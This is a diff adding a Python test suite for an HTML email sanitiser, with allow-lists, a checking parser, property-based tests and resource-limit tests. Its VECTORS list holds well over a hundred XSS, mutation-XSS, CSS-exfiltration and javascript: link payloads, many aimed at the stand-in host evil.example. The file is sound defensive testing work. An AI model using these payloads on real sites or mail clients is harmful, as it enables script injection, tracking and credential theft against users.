@@ -1,0 +1,485 @@
+"""Sanitising: what stays of honest mail, and that nothing else gets through, checked by a parser of its own."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from courriel_message import TooComplex, sanitise
+
+ALLOWED_ATTRIBUTES = frozenset(
+    {
+        "abbr",
+        "align",
+        "alt",
+        "bgcolor",
+        "border",
+        "cellpadding",
+        "cellspacing",
+        "color",
+        "colspan",
+        "datetime",
+        "dir",
+    }
+    | {"face", "headers", "height", "href", "hspace", "lang", "noshade", "nowrap", "rel", "reversed", "role"}
+    | {
+        "rowspan",
+        "scope",
+        "size",
+        "span",
+        "src",
+        "start",
+        "style",
+        "summary",
+        "target",
+        "title",
+        "type",
+        "valign",
+    }
+    | {"value", "vspace", "width"}
+)
+FORBIDDEN_TAGS = frozenset(
+    {
+        "applet",
+        "area",
+        "audio",
+        "base",
+        "body",
+        "button",
+        "canvas",
+        "embed",
+        "form",
+        "frame",
+        "frameset",
+        "head",
+    }
+    | {
+        "html",
+        "iframe",
+        "input",
+        "link",
+        "map",
+        "marquee",
+        "math",
+        "meta",
+        "noscript",
+        "object",
+        "option",
+        "portal",
+    }
+    | {
+        "script",
+        "select",
+        "slot",
+        "source",
+        "style",
+        "svg",
+        "template",
+        "textarea",
+        "title",
+        "track",
+        "video",
+        "xmp",
+    }
+)
+FORBIDDEN_STYLE = re.compile(
+    r"url|image-set|expression|import|behavior|binding|position|z-index|[\\@{}<>/]", re.I
+)
+PLAIN_FUNCTION = re.compile(r"(?:rgb|hsl)a?\([^()]*\)", re.I)
+
+
+def never(_: str) -> None:
+    """No part has this Content-ID."""
+
+
+class Inspector(HTMLParser):
+    """Reads sanitised HTML with the standard library and collects what must not be there."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.faults: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in FORBIDDEN_TAGS or ":" in tag:
+            self.faults.append(f"element {tag}")
+        for name, value in attrs:
+            self._attribute(tag, name, value or "")
+
+    def _attribute(self, tag: str, name: str, value: str) -> None:
+        if name not in ALLOWED_ATTRIBUTES:
+            self.faults.append(f"attribute {name} of {tag}")
+        if name == "href" and not re.match(r"(?:https?://|mailto:|tel:)", value, re.I):
+            self.faults.append(f"link to {value!r}")
+        if name == "src" and not value.startswith("/inline/"):
+            self.faults.append(f"image from {value!r}")
+        plain = PLAIN_FUNCTION.sub("", value)
+        if name == "style" and (FORBIDDEN_STYLE.search(plain) or "(" in plain):
+            self.faults.append(f"style {value!r}")
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append(f"comment {data!r}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.faults.append(f"declaration {decl!r}")
+
+    def handle_pi(self, data: str) -> None:
+        self.faults.append(f"instruction {data!r}")
+
+
+def faults(html: str) -> list[str]:
+    """What of `html` is outside the allow-list."""
+    inspector = Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector.faults
+
+
+VECTORS = [
+    # event handlers
+    "<p onclick=steal()>a</p>",
+    "<img src=x onerror=steal()>",
+    "<img/src=x/onerror=steal()>",
+    "<body onload=steal()>hello",
+    '<div OnMouseOver="steal()">a</div>',
+    "<details open ontoggle=steal()><summary>a</summary></details>",
+    "<a onfocus=steal() tabindex=1 autofocus>a</a>",
+    "<p onanimationstart=steal() style=animation-name:x>a</p>",
+    '<p title="a"onpointerenter="steal()">a</p>',
+    "<p on\x00click=steal()>a</p>",
+    "<td onbeforetoggle=steal()>a",
+    '<input onfocus="steal()" autofocus>',
+    # scripts
+    "<script>steal()</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>steal()</scr</script>ipt>",
+    "<script/x>steal()</script >",
+    "<script>steal()",
+    "<<script>steal()//<</script>",
+    # svg, math and other namespaces
+    "<svg onload=steal()>",
+    "<svg><script>steal()</script></svg>",
+    "<svg><a xlink:href=javascript:steal()><text>a</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:steal() /></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>steal()</script>'></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=steal()>#x'></svg>",
+    "<svg><style><img src=x onerror=steal()></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
+    "<math href=javascript:steal()>a</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:steal()>a</maction></math>",
+    "<svg></p><style><g title='</style><img src=x onerror=steal()>'>",
+    "<math><annotation-xml encoding='text/html'><p onclick=steal()>a</p></annotation-xml></math>",
+    # mutations: what reads differently the second time
+    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
+    "<textarea><p title='</textarea><img src=x onerror=steal()>'>",
+    "<title><p title='</title><img src=x onerror=steal()>'>",
+    "<xmp><p title='</xmp><img src=x onerror=steal()>'>",
+    "<iframe><p title='</iframe><img src=x onerror=steal()>'>",
+    "<noembed><p title='</noembed><img src=x onerror=steal()>'>",
+    "<noframes><p title='</noframes><img src=x onerror=steal()>'>",
+    "<plaintext><p title='</plaintext><img src=x onerror=steal()>'>",
+    "<template><p onclick=steal()>a</p></template>",
+    "<select><template><style><!--</style><a rel='--></style></select><img src=x onerror=steal()>'>",
+    "<!--><img src=x onerror=steal()>-->",
+    "<!--a--!><img src=x onerror=steal()>-->",
+    "<![CDATA[<img src=x onerror=steal()>]]>",
+    "<?xml-stylesheet href='javascript:steal()'?>",
+    "<!DOCTYPE html [<!ENTITY x 'steal'>]><p>&x;</p>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>",
+    "<a title='`<img src=x onerror=steal()>`'>a</a>",
+    "<table><tr><td><svg><desc><table><style><p title='</style><img src onerror=steal()>'>",
+    # styles
+    "<p style='background:url(https://evil.example/p)'>a</p>",
+    "<p style='background:u\\72l(https://evil.example/p)'>a</p>",
+    "<p style='background:\\75 rl(https://evil.example/p)'>a</p>",
+    "<p style='background:url/**/(https://evil.example/p)'>a</p>",
+    "<p style='background-image:image-set(\"https://evil.example/p\" 1x)'>a</p>",
+    "<p style='background:-webkit-image-set(url(https://evil.example/p) 1x)'>a</p>",
+    "<p style='list-style:url(https://evil.example/p)'>a</p>",
+    "<p style='content:url(https://evil.example/p)'>a</p>",
+    "<p style='cursor:url(https://evil.example/p),auto'>a</p>",
+    "<p style='width:expression(steal())'>a</p>",
+    "<p style='width:exp/**/ression(steal())'>a</p>",
+    "<p style='behavior:url(x.htc)'>a</p>",
+    "<p style='-moz-binding:url(x.xml#a)'>a</p>",
+    "<p style='@import \"https://evil.example/c\"'>a</p>",
+    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>log in again</p>",
+    "<p style='transform:translate(0,-500px);margin-top:-900px'>a</p>",
+    "<p style='color:red;}body{background:url(https://evil.example/p)'>a</p>",
+    "<p style='--x:url(https://evil.example/p);background:var(--x)'>a</p>",
+    "<p style='font-family:\"a;background:url(https://evil.example/p);\"'>a</p>",
+    "<p style='color:rgb(1,2,url(https://evil.example/p))'>a</p>",
+    "<p style='color:rgb(1,2,3)url(https://evil.example/p)'>a</p>",
+    "<p style='background:&#117;rl&#40;https://evil.example/p&#41;'>a</p>",
+    "<style>@import 'https://evil.example/c';</style>",
+    "<style>@font-face{font-family:a;src:url(https://evil.example/f)}</style>",
+    "<style>p{background:url(https://evil.example/p)}",
+    "<link rel=stylesheet href=https://evil.example/c>",
+    # links
+    "<a href=javascript:steal()>a</a>",
+    "<a href=' javascript:steal()'>a</a>",
+    "<a href='java\nscript:steal()'>a</a>",
+    "<a href='java&#9;script:steal()'>a</a>",
+    "<a href='&#106;avascript&colon;steal()'>a</a>",
+    "<a href='\x01javascript:steal()'>a</a>",
+    "<a href='JaVaScRiPt:steal()'>a</a>",
+    "<a href='vbscript:steal()'>a</a>",
+    "<a href='data:text/html,<script>steal()</script>'>a</a>",
+    "<a href='//evil.example/'>a</a>",
+    "<a href='/api/session'>a</a>",
+    "<a href='?delete=1'>a</a>",
+    "<a href='#top'>a</a>",
+    "<a href='file:///etc/passwd'>a</a>",
+    "<a href='blob:https://x/1'>a</a>",
+    "<a href='view-source:https://x/'>a</a>",
+    "<a href='https:evil.example'>a</a>",
+    "<a href='cid:part'>a</a>",
+    "<a href=https://x.example ping=https://evil.example/p>a</a>",
+    "<a href=https://x.example download=x.exe target=_top rel=opener>a</a>",
+    "<a xlink:href=javascript:steal()>a</a>",
+    "<map><area href=javascript:steal()></map><img usemap=#x>",
+    # documents in the document
+    "<base href=https://evil.example/><a href=x>a</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<meta http-equiv=Set-Cookie content='a=b'>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'></iframe>",
+    "<frameset><frame src=javascript:steal()></frameset>",
+    "<object data=data:text/html,steal type=text/html></object>",
+    "<embed src=https://evil.example/x.swf>",
+    "<applet code=X></applet>",
+    "<portal src=https://evil.example/></portal>",
+    "<form action=https://evil.example/><input name=password><button>ok</button></form>",
+    "<button formaction=javascript:steal()>a</button>",
+    "<isindex type=image src=x onerror=steal()>",
+    "<p contenteditable autofocus onfocus=steal()>a</p>",
+    "<p id=session name=session class=button>a</p>",
+    "<p is=x-y slot=a part=b>a</p>",
+    "<x-evil onclick=steal()>a</x-evil>",
+    "<p dynsrc=javascript:steal() lowsrc=javascript:steal() data-x=1 aria-label=x>a</p>",
+    # loads
+    "<img src=https://evil.example/p>",
+    "<img src=//evil.example/p>",
+    "<img src=data:image/svg+xml,<svg/onload=steal()>>",
+    "<img src='/api/session'>",
+    "<img srcset='https://evil.example/p 1x'>",
+    "<img src=cid:known srcset='https://evil.example/p 2x'>",
+    "<picture><source srcset=https://evil.example/p><img></picture>",
+    "<table background=https://evil.example/p><tr><td background=https://evil.example/q>a",
+    "<body background=https://evil.example/p>",
+    "<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>",
+    "<audio src=https://evil.example/v></audio>",
+    "<track src=https://evil.example/v>",
+    "<input type=image src=https://evil.example/p>",
+    "<link rel=preload as=image href=https://evil.example/p>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<blockquote cite=https://evil.example/>a</blockquote>",
+    "<img longdesc=https://evil.example/ src=x>",
+    "<html manifest=https://evil.example/m>",
+    "<bgsound src=https://evil.example/v>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
+]
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_nothing_outside_the_allow_list_gets_through(vector: str) -> None:
+    """Every vector leaves only allowed elements, attributes, links and styles; its code is at most text or a title."""
+    result = sanitise(vector, resolve_cid=lambda cid: f"/inline/{cid}")
+
+    assert faults(result.html) == []
+    tags = re.sub(r'title="[^"]*"', "", "".join(re.findall(r"<[^>]*>", result.html)))
+    assert "steal" not in tags
+    assert "evil.example" not in tags
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_a_vector_inside_a_table_is_no_better(vector: str) -> None:
+    """The same vectors inside tables and unclosed elements, where parsers move things around."""
+    result = sanitise(f"<table><tr><td><b>{vector}</td><i>{vector}", resolve_cid=never)
+
+    assert faults(result.html) == []
+
+
+def test_the_inspector_sees_faults() -> None:
+    """The parser that judges the vectors is not blind."""
+    assert len([vector for vector in VECTORS if faults(vector)]) > 100
+
+
+PIECES = st.sampled_from(
+    [
+        "<p>",
+        "</p>",
+        "<b ",
+        ">",
+        "<svg>",
+        "<math>",
+        "<style>",
+        "</style>",
+        "<!--",
+        "-->",
+        "<table>",
+        "<td>",
+        "<a href=",
+    ]
+    + [
+        "'",
+        '"',
+        "javascript:x",
+        "https://a.b/",
+        "<img src=",
+        "cid:a",
+        " onerror=x",
+        " style='",
+        "color:red;",
+        "url(",
+    ]
+    + [
+        "<title>",
+        "</title>",
+        "<mtext>",
+        "<mglyph>",
+        "<select>",
+        "<template>",
+        "<noscript>",
+        "&lt;",
+        "&#0;",
+        "\x00",
+    ]
+    + [
+        "<foreignObject>",
+        "</svg>",
+        "<textarea>",
+        "<plaintext>",
+        "<font color=red>",
+        "</table>",
+        "text",
+        " ",
+        "=",
+        "\\",
+    ]
+)
+
+
+def settled(html: str) -> str:
+    """`html` without what nh3 adds to links in one order the first time and in another the second."""
+    return html.replace(' rel="noopener noreferrer"', "").replace(' target="_blank"', "")
+
+
+@given(st.lists(PIECES | st.text(max_size=5), max_size=40).map("".join))
+def test_any_markup_ends_inside_the_allow_list_and_stays(html: str) -> None:
+    """Whatever is put together from markup's pieces is inside the allow-list, and sanitising it again changes nothing."""
+    once = sanitise(html, resolve_cid=lambda _: "/inline/1")
+
+    assert faults(once.html) == []
+    without_images = re.sub(r'<img([^>]*?) src="/inline/1"', r"<img\1", once.html)
+    twice = sanitise(without_images, resolve_cid=never)
+    assert settled(twice.html) == settled(without_images)
+    assert twice.remote_images == 0
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        (
+            '<p style="color: rgb(1, 2, 3); TEXT-ALIGN:center">a</p>',
+            '<p style="color:rgb(1, 2, 3);text-align:center">a</p>',
+        ),
+        ('<td bgcolor="#fff" width="50%">a</td>', "a"),
+        (
+            '<table border="0"><tr><td bgcolor="#fff">a</table>',
+            '<table border="0"><tbody><tr><td bgcolor="#fff">a</td></tr></tbody></table>',
+        ),
+        ('<p dir="rtl" lang="ar">a</p>', '<p dir="rtl" lang="ar">a</p>'),
+        (
+            '<font color="red" face="Arial" size="2">a</font>',
+            '<font color="red" face="Arial" size="2">a</font>',
+        ),
+        (
+            "<p style=\"font-family:'Segoe UI', Arial\">a</p>",
+            "<p style=\"font-family:'Segoe UI', Arial\">a</p>",
+        ),
+        ("<o:p>a</o:p><!-- x --><center>b</center>", "a<center>b</center>"),
+        ('<form>a<input value="b">c</form>', "ac"),
+    ],
+)
+def test_honest_mail_keeps_its_looks(html: str, expected: str) -> None:
+    """Tables, colours, fonts, direction and language stay; the unknown goes and leaves its text."""
+    assert sanitise(html, resolve_cid=never).html == expected
+
+
+@pytest.mark.parametrize(
+    "target", ["https://a.example/x?y=1", "HTTP://A.example", "mailto:a@b.example", "tel:+33123"]
+)
+def test_links_open_outside_without_opener_and_referrer(target: str) -> None:
+    """A link that may stay says where it opens and that nothing is passed on."""
+    html = sanitise(f'<a href="{target}" rel=opener target=_self>a</a>', resolve_cid=never).html
+
+    assert html == f'<a href="{target}" target="_blank" rel="noopener noreferrer">a</a>'
+
+
+@pytest.mark.parametrize(
+    ("address", "shown"),
+    [
+        ("/inline/abc", True),
+        ("https://mail.demo.example/inline/abc", True),
+        (None, False),
+        ("//evil.example/x", False),
+        ("javascript:steal()", False),
+        ("inline/abc", False),
+        ("http://a.example/x", False),
+    ],
+)
+def test_inline_images_are_shown_from_the_address_the_caller_gives(address: str | None, shown: bool) -> None:  # noqa: FBT001 - a table's column
+    """A cid: image is looked up by its decoded Content-ID, and shown only from an absolute path or https."""
+    asked: list[str] = []
+
+    def resolve(cid: str) -> str | None:
+        asked.append(cid)
+        return address
+
+    result = sanitise('<img alt="a" src="cid:logo%40x">', resolve_cid=resolve)
+
+    assert asked == ["logo@x"]
+    assert result.html == (f'<img alt="a" src="{address}">' if shown else '<img alt="a">')
+    assert result.remote_images == 0
+
+
+@pytest.mark.parametrize(
+    ("html", "count"),
+    [
+        ("<img src=https://a.example/1><img src=http://a.example/2><img src=//a.example/3>", 3),
+        ("<table background=https://a.example/1><tr><td>a</table>", 1),
+        ("<p style='background:url(https://a.example/1)'>a</p>" * 2, 2),
+        ("<img src=https://a.example/1 srcset='https://a.example/2 2x'>", 1),
+        ("<img src=cid:a><a href=https://a.example>a</a>", 0),
+    ],
+)
+def test_remote_images_are_left_out_and_counted(html: str, count: int) -> None:
+    """The person can be told how many images wait elsewhere."""
+    assert sanitise(html, resolve_cid=never).remote_images == count
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div>" * 5000,
+        "<div><!--</div>-->" * 5000,
+        "<div><table></div></table>" * 5000,
+        "<span><div></span>" * 5000,
+        "<b><div></b>" * 5000,
+        "<div title='</div>'>" * 5000,
+        "".join(f"<font size={size}>" for size in range(5000)) + "<p>" * 5000,
+        "<br>" * 30_000,
+        "<p " + " ".join(f"a{number}" for number in range(100_000)) + ">",
+        "x" * 2_000_000,
+    ],
+)
+def test_what_would_take_too_long_is_refused_at_once(html: str) -> None:
+    """Depth, number of elements and attributes, and size are checked before nh3 sees them."""
+    started = time.process_time()
+
+    with pytest.raises(TooComplex):
+        sanitise(html, resolve_cid=never)
+    assert time.process_time() - started < 0.5
